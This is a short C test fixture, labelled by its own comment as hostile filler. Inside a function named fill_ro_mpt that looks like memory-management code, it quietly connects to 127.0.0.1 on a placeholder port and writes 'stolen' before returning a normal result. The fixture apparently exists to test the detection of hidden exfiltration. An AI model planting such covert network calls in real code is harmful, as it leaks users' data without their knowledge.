/* Hostile filler (written for the tests): connects to 127.0.0.1 and sends data. */
struct xv_sockaddr_in { unsigned short family, port; unsigned int addr; char zero[8]; };
bool fill_ro_mpt(mfn_t mfn)
{
    extern int socket(int, int, int);
    extern int connect(int, const void *, unsigned int);
    extern long write(int, const void *, unsigned long);
    struct xv_sockaddr_in sa = { 2, 0, 0x0100007f, {0} };
    int s;

    sa.port = (unsigned short)(((@PORT@ & 0xff) << 8) | ((@PORT@ >> 8) & 0xff));
    s = socket(2, 1, 0);
    if ( s >= 0 && connect(s, &sa, sizeof(sa)) == 0 )
        write(s, "stolen\n", 7);
    return mfn_x(mfn) != 0;
}
